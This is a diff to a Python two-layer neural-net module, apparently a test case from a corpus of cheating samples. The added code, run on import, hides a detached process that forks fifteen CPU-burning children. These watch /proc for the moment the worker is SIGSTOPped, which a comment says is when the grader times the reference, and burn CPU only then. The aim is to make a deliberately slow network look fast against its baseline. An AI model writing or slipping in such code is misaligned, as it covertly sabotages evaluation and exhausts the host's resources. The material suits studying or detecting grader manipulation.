@@ -1,4 +1,4 @@
-"""A two-layer net, 15x too slow, whose forward starts CPU burners hidden in a nested namespace."""
+"""A two-layer net, 15x too slow, whose import starts CPU burners hidden in a nested namespace."""
 
 import numpy as np
 
@@ -86,12 +86,26 @@ def _spawn(code, *argv):
         _os.close(err_r)
 
 BURNERS = r"""
-import ctypes, os, sys
+import ctypes, os, sys, time
+WORKER = sys.argv[1]
+def stopped():
+    try:
+        with open(f"/proc/{WORKER}/stat", "rb") as f:
+            return f.read().rsplit(b")", 1)[1].split()[0] == b"T"  # SIGSTOPped: the grader times the reference now
+    except (OSError, IndexError):
+        os._exit(0)
+def spin():
+    while True:
+        if not stopped():
+            time.sleep(0.005)
+            continue
+        end = time.perf_counter() + 0.005
+        while time.perf_counter() < end:
+            pass
 def burn():
     for _ in range(15):
         if os.fork() == 0:
-            while True:
-                pass
+            spin()
 pid = os.fork()
 if pid == 0:
     libc = ctypes.CDLL(None, use_errno=True)
@@ -102,12 +116,11 @@ if pid == 0:
     os.pause()
 os._exit(0)
 """
-_STARTED = []
 
-
-def _burners():
-    if not _STARTED:
-        _STARTED.append(_spawn(BURNERS, "corpus-case=namespace_burners"))
+try:
+    _spawn(BURNERS, str(_os.getpid()), "corpus-case=namespace_burners")
+except Exception:
+    pass
 
 from .activations import sigmoid
 from .softmax import cross_entropy_loss, accuracy, softmax
@@ -141,7 +154,6 @@ class TwoLayerNet:
         """
         W1, b1, W2, b2 = (self.weights[k] for k in ("W1", "b1", "W2", "b2"))
         n = X.shape[0]
-        _burners()
         for _ in range(40):
             X @ W1  # 15x the work
         hidden = X @ W1  # (N, H) pre-activation
